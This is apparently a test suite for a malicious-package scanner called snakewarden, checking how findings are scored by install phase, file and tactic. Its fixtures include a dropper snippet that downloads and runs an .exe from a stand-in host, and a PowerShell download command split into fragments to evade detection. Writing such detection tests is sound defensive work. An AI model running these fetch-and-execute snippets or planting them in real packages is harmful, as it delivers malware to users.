"""Scoring: where code runs scales its weight; evidence combines within a file more than across."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from snakewarden.analysis import analyze, judge, scorer_weights
from snakewarden.analysis.context import Role, make_finding, phase_factor
from snakewarden.analysis.scoring import SUSPICIOUS_AT, file_scores, rule_strengths
from snakewarden.artifacts import artifact_from_files
from snakewarden.core.models import Finding, Phase, Severity, Verdict


def finding(
    rule: str,
    weight: float,
    file: str = "pkg/setup.py",
    line: int = 1,
    phase: Phase = Phase.INSTALL,
) -> Finding:
    return Finding(
        rule=rule,
        category="threat.test",
        severity=Severity.HIGH,
        message=rule,
        file=file,
        line=line,
        evidence="x",
        weight=weight,
        phase=phase,
    )


def _reader(data: bytes):
    return lambda n: data[:n]


def tree(files: dict[str, str]):
    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
    return artifact_from_files("demo", entries)


def test_phase_factor_orders_install_over_import_over_runtime() -> None:
    install = phase_factor(Phase.INSTALL, Role.SETUP)
    startup = phase_factor(Phase.STARTUP, Role.PTH)
    init = phase_factor(Phase.IMPORT, Role.INIT)
    module = phase_factor(Phase.IMPORT, Role.MODULE)
    runtime = phase_factor(Phase.RUNTIME, Role.MODULE)
    test = phase_factor(Phase.RUNTIME, Role.TEST)
    assert install == startup == 1.0
    assert install > init >= module > runtime > test > 0


def test_make_finding_scales_and_floors() -> None:
    args = {"file": "f.py", "line": 3, "evidence": "e", "role": Role.MODULE}
    at_install = make_finding("r", "c.d", Severity.HIGH, "m", base=0.8, phase=Phase.INSTALL, **args)
    at_runtime = make_finding("r", "c.d", Severity.HIGH, "m", base=0.8, phase=Phase.RUNTIME, **args)
    floored = make_finding(
        "r", "c.d", Severity.HIGH, "m", base=0.8, phase=Phase.RUNTIME, floor=0.75, **args
    )
    assert at_install.weight == pytest.approx(0.8)
    assert at_runtime.weight == pytest.approx(0.8 * phase_factor(Phase.RUNTIME, Role.MODULE))
    assert floored.weight == pytest.approx(0.6)
    assert at_runtime.phase is Phase.RUNTIME


def test_no_findings_is_clean() -> None:
    assert judge([]) == (0.0, Verdict.CLEAN)


_MODEL_RULES = sorted(scorer_weights.RULES) or ["network-access"]
_findings = st.builds(
    lambda rule, w, f, phase: finding(rule, w, file=f, phase=phase),
    st.sampled_from([*_MODEL_RULES, "typosquat", "unknown-rule"]),
    st.floats(0.0, 1.0),
    st.sampled_from(["setup.py", "pkg/__init__.py", "pkg/mod.py", ""]),
    st.sampled_from(list(Phase)),
)


@given(st.lists(_findings, max_size=8), _findings)
def test_a_finding_never_lowers_the_score(found: list[Finding], more: Finding) -> None:
    assert judge([*found, more])[0] >= judge(found)[0] - 1e-9


def test_learned_weights_are_non_negative_and_name_known_rules() -> None:
    assert all(w >= 0 for w in scorer_weights.WEIGHTS.values())
    for feature in scorer_weights.WEIGHTS:
        rule = feature.removeprefix("seen:").split("@", 1)[0]
        assert feature.startswith(("phase:", "tactics:")) or rule in scorer_weights.RULES


def test_weak_signals_in_one_file_add_up() -> None:
    weak = [
        finding("install-hook", 0.2),
        finding("network-access", 0.2),
        finding("process-exec", 0.2),
        finding("suspicious-url", 0.2),
    ]
    score, verdict = judge(weak)
    assert score >= SUSPICIOUS_AT
    assert verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)
    for one in weak:
        assert judge([one])[1] is Verdict.CLEAN


def test_same_signals_in_two_files_count_less_than_in_one() -> None:
    rules = ("install-hook", "network-access", "process-exec", "suspicious-url")
    together = [finding(r, 0.2, file="setup.py") for r in rules]
    spread = [finding(r, 0.2, file=f"{r}.py") for r in rules]
    assert judge(together)[0] > judge(spread)[0]


def test_same_signals_spread_over_files_count_less() -> None:
    together = [finding(r, 0.3, file="a.py") for r in ("a", "b", "c", "d")]
    spread = [finding(r, 0.3, file=f"{r}.py") for r in ("a", "b", "c", "d")]
    assert judge(together)[0] > judge(spread)[0]


def test_repeats_of_one_rule_count_little() -> None:
    once = rule_strengths([finding("r", 0.4)])["r"]
    many = rule_strengths([finding("r", 0.4, line=i) for i in range(10)])["r"]
    assert once < many < 0.5


def test_package_wide_findings_join_the_top_file() -> None:
    extra = Finding(
        rule="typosquat",
        category="meta.name",
        severity=Severity.MEDIUM,
        message="name close to requests",
        weight=0.4,
    )
    package, files = file_scores([extra, finding("network-access", 0.2)])
    assert package == pytest.approx(0.4)
    assert files == [("pkg/setup.py", pytest.approx(0.2))]
    assert judge([extra, finding("r", 0.3)])[0] == pytest.approx(1 - 0.6 * 0.7, abs=1e-3)


DROPPER = """
import os, tempfile, urllib.request
def fetch_and_run():
    path = os.path.join(tempfile.gettempdir(), "tool.exe")
    urllib.request.urlretrieve("https://stage.example.invalid/tool.exe", path)
    os.startfile(path)
"""


def test_same_calls_weigh_by_where_they_run() -> None:
    in_setup = analyze(tree({"setup.py": DROPPER + "fetch_and_run()\n"}), target="x")
    library = {f"demo/mod{i}.py": f"def f{i}(x):\n    return x + {i}\n" for i in range(15)}
    library["demo/__init__.py"] = ""
    library["demo/tools.py"] = DROPPER
    in_library = analyze(tree(library), target="y")
    assert in_setup.verdict is Verdict.MALICIOUS
    # a library function nothing calls that fetches an .exe and starts it: worth a look, no more
    assert in_library.verdict is not Verdict.MALICIOUS
    assert in_setup.score > in_library.score
    top = in_setup.findings[0]
    assert top.phase is Phase.INSTALL
    assert top.file == "setup.py"
    assert top.line > 0


def test_capabilities_weigh_more_in_a_tiny_package() -> None:
    big = {f"demo/mod{i}.py": f"def f{i}(x):\n    return x + {i}\n" for i in range(15)}
    big["demo/tools.py"] = DROPPER
    tiny = analyze(tree({"demo/tools.py": DROPPER}), target="x")
    assert tiny.score > analyze(tree(big), target="y").score


def test_import_time_call_is_reachable_from_module_level() -> None:
    called = analyze(tree({"demo/__init__.py": DROPPER + "fetch_and_run()\n"}), target="x")
    uncalled = analyze(tree({"demo/__init__.py": DROPPER}), target="y")
    assert called.score > uncalled.score
    assert any(f.phase is Phase.IMPORT for f in called.findings)


def test_a_registry_of_functions_runs_none_of_them_at_import() -> None:
    """``TOOLS = [fetch_and_run]`` names the function in a list: it runs when something calls
    it, not when the module is imported; a loop over the list that calls each one, or a call
    through the table, runs them at import."""
    listed = DROPPER + "TOOLS = [fetch_and_run]\n"
    looped = listed + "for tool in TOOLS:\n    tool()\n"
    table = DROPPER + "TOOLS = {'x': fetch_and_run}\nTOOLS['x']()\n"
    uncalled = analyze(tree({"demo/__init__.py": DROPPER}), target="u").score
    assert analyze(tree({"demo/__init__.py": listed}), target="l").score == uncalled
    for code in (looped, table):
        result = analyze(tree({"demo/__init__.py": code}), target="c")
        assert result.score > uncalled
        assert any(f.phase is Phase.IMPORT for f in result.findings)


def test_rules_doc_is_current() -> None:
    from pathlib import Path

    from snakewarden.analysis.docs import rules_markdown

    doc = Path(__file__).resolve().parents[3] / "docs" / "rules.md"
    assert doc.read_text(encoding="utf-8") == rules_markdown(), (
        "regenerate: python -m snakewarden.analysis.docs > docs/rules.md"
    )


def _setup_with(line: str) -> str:
    return f"import os\nfrom setuptools import setup\n{line}\nsetup(name='demo', version='0.1')\n"


def test_setup_running_a_program_unasked_is_suspicious_but_cd_is_not() -> None:
    runs = analyze(tree({"setup.py": _setup_with("os.system('./helper.sh')")}), target="x")
    cds = analyze(tree({"setup.py": _setup_with("os.system(f'cd {os.getcwd()}')")}), target="y")
    assert runs.verdict is not Verdict.CLEAN
    assert cds.verdict is Verdict.CLEAN


def test_command_split_into_fragments_is_suspicious_at_import() -> None:
    code = (
        "import subprocess\n"
        "parts = ['po', 'wer', 'sh', 'ell -C ', 'iwr https://example.invalid/a']\n"
        "cmd = ''.join(parts)\n"
        "subprocess.run(cmd, shell=True)\n"
    )
    plain = "import subprocess\ncmd = 'make'\nsubprocess.run(cmd, shell=True)\n"
    assert analyze(tree({"demo/__init__.py": code}), target="x").verdict is not Verdict.CLEAN
    assert analyze(tree({"demo/__init__.py": plain}), target="y").verdict is Verdict.CLEAN


def test_machine_obfuscated_setup_py_is_not_clean() -> None:
    names = [f"lIlI{'lI' * 7}{'I' * i}" for i in range(10)]
    body = "".join(f"{n} = {i}\n" for i, n in enumerate(names))
    setup_py = "from setuptools import setup\n" + body + "setup(name='demo', version='0.1')\n"
    assert analyze(tree({"setup.py": setup_py}), target="x").verdict is not Verdict.CLEAN


def test_program_run_on_import_outweighs_the_same_call_in_a_function() -> None:
    top = "import os\nos.system('helper --quiet')\n"
    inside = "import os\n\ndef run():\n    os.system('helper --quiet')\n"
    at_import = analyze(tree({"demo/__init__.py": top}), target="x")
    in_function = analyze(tree({"demo/__init__.py": inside}), target="y")
    assert at_import.score > in_function.score
    assert in_function.verdict is Verdict.CLEAN


def _threat(rule: str, category: str, weight: float = 0.1, file: str = "pkg/mod.py") -> Finding:
    return Finding(
        rule=rule,
        category=category,
        severity=Severity.HIGH,
        message=rule,
        file=file,
        line=3,
        evidence="x",
        weight=weight,
        phase=Phase.RUNTIME,
    )


def test_tactics_count_threats_in_one_file_not_capabilities() -> None:
    from snakewarden.analysis.scoring import evidence_features

    rules = {"persistence", "exfiltration-endpoint", "network-access", "packed-code"}
    persist = _threat("persistence", "threat.persistence")
    exfil = _threat("exfiltration-endpoint", "threat.network.exfil")
    net = _threat("network-access", "threat.network.access")
    _, files = evidence_features([persist, exfil], rules)
    assert files[0]["tactics:2"] == 1.0
    assert "tactics:3" not in files[0]
    assert files[0]["seen:persistence"] == 1.0
    _, files = evidence_features([persist, net], rules)  # reaching the network is no tactic
    assert "tactics:2" not in files[0]
    assert "seen:network-access" not in files[0]
    elsewhere = _threat("exfiltration-endpoint", "threat.network.exfil", file="pkg/other.py")
    _, files = evidence_features([persist, elsewhere], rules)  # per file, not per package
    assert all("tactics:2" not in f for f in files)
    faint = _threat("exfiltration-endpoint", "threat.network.exfil", weight=0.01)
    _, files = evidence_features([persist, faint], rules)  # a mention in a comment
    assert "tactics:2" not in files[0]


def test_a_weak_finding_deep_in_a_long_module_names_no_tactic() -> None:
    """Past line 1,000 a finding must be stronger to name a tactic (weak findings of different
    tactics meet by chance in a 10,000-line module); a strong one still does."""
    from snakewarden.analysis.scoring import evidence_features

    rules = {"persistence", "exfiltration-endpoint"}
    persist = _threat("persistence", "threat.persistence", weight=0.1)
    exfil = _threat("exfiltration-endpoint", "threat.network.exfil", weight=0.1)
    _, files = evidence_features([persist, exfil], rules)
    assert files[0]["tactics:2"] == 1.0
    deep = [replace(f, line=f.line + 9000) for f in (persist, exfil)]
    _, files = evidence_features(deep, rules)
    assert "tactics:2" not in files[0]
    assert "seen:persistence" not in files[0]
    strong = [replace(f, weight=0.5) for f in deep]
    _, files = evidence_features(strong, rules)
    assert files[0]["tactics:2"] == 1.0
